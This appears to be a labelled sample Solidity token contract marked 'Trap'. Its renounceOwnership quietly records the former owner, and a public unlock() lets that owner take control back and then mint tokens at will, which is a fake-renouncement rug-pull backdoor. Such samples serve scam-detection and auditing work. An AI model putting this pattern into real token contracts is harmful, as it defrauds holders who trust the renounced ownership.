// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {OwnableToken} from "base/OwnableToken.sol";

/// Trap: the ownership can be taken back, by whoever launched the token, after it was renounced.
contract OwnershipBackdoor is OwnableToken {
    address private previous;

    constructor(string memory name_, string memory symbol_, uint256 supply) OwnableToken(name_, symbol_, supply) {}

    function renounceOwnership() external override onlyOwner {
        previous = owner();
        _passOwnership(address(0));
    }

    function unlock() external {
        require(msg.sender == previous, "nothing to unlock");
        _passOwnership(previous);
    }

    function mint(address to, uint256 value) external onlyOwner {
        _write(address(0), to, value);
    }
}
